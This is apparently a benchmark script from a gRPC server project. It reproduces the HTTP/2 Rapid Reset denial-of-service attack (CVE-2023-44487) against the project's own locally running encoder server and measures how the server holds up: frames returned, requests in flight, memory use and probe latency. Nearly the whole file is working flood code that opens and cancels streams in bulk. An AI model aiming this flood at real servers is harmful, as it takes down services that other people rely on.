"""Rapid reset against a running server's gRPC port: N streams on one connection, each opened with a whole Encode
call and reset at once (CVE-2023-44487), while a second client makes a call every 50 ms. Prints the frames the
server sent back, the most requests in flight its metrics read, its RSS before and after, and the probe's calls.

    .venv/bin/python docs/bench/2026-12-01-fortysecond/rapid_reset.py PORT METRICS_PORT N

The server must have been started with `--port PORT --http-port ...` (its RSS is read by that command line)."""

import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request

import grpc

from mhaserve.proto.encoder.v1 import encoder_pb2 as pb
from mhaserve.proto.encoder.v1 import encoder_pb2_grpc as pb_grpc
from mhaserve.service.rpc.lean import frames as f

port, metrics_port, n = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
block = f.header_block(
    (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/encoder.v1.EncoderService/Encode"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)
message = pb.EncodeRequest(texts=["the quick brown fox jumps over the lazy dog " * 5]).SerializeToString()
body = b"\0" + len(message).to_bytes(4, "big") + message
done = threading.Event()
peak = [0.0]
probe_ms: list[float] = []  # -1 for a call that failed
frames_back: dict[str, int] = {}


def rss_mib() -> int:
    pid = subprocess.run(["pgrep", "-f", f"port {port} --http"], capture_output=True, text=True).stdout.split()[0]
    with open(f"/proc/{pid}/status") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1)) // 1024  # type: ignore[union-attr]


def sample() -> None:
    while not done.is_set():
        text = urllib.request.urlopen(f"http://127.0.0.1:{metrics_port}/metrics").read().decode()
        found = re.search(r"^mhaserve_requests_in_flight (\S+)", text, re.M)
        peak[0] = max(peak[0], float(found.group(1)) if found else 0.0)
        time.sleep(0.05)


def probe() -> None:
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        stub = pb_grpc.EncoderServiceStub(channel)
        while not done.is_set():
            start = time.perf_counter()
            try:
                stub.Encode(pb.EncodeRequest(texts=["probe"]), timeout=10)
                probe_ms.append((time.perf_counter() - start) * 1000)
            except grpc.RpcError:
                probe_ms.append(-1)
            time.sleep(0.05)


def read(raw: socket.socket) -> None:
    buf = bytearray()
    while chunk := raw.recv(65536):
        buf += chunk
        for kind, _, _, _ in f.whole_frames(buf):
            frames_back[f.NAMES[kind]] = frames_back.get(f.NAMES[kind], 0) + 1


rss_before = rss_mib()
for target in (sample, probe):
    threading.Thread(target=target, daemon=True).start()
raw = socket.create_connection(("127.0.0.1", port))
threading.Thread(target=read, args=(raw,), daemon=True).start()
raw.sendall(f.PREFACE + f.settings() + f.frame(f.SETTINGS, f.ACK, 0, b""))
start, sent = time.perf_counter(), 0
try:
    for first in range(1, 2 * n, 1000):
        raw.sendall(
            b"".join(
                f.frame(f.HEADERS, f.END_HEADERS, sid, block)
                + f.frame(f.DATA, f.END_STREAM, sid, body)
                + f.rst_stream(sid, f.CANCEL)
                for sid in range(first, min(first + 1000, 2 * n), 2)
            )
        )
        sent += len(range(first, min(first + 1000, 2 * n), 2))
except OSError as error:
    print(f"the server closed the connection: {error}")
elapsed = time.perf_counter() - start
time.sleep(3)
done.set()
time.sleep(0.3)
answered = [ms for ms in probe_ms if ms >= 0]
print(
    f"sent {sent} streams in {elapsed:.1f} s; frames back {frames_back}; most requests in flight {peak[0]:.0f}; "
    f"RSS {rss_before} -> {rss_mib()} MiB; probe calls {len(probe_ms)}, failed {len(probe_ms) - len(answered)}, "
    f"slowest {max(answered, default=0):.0f} ms"
)
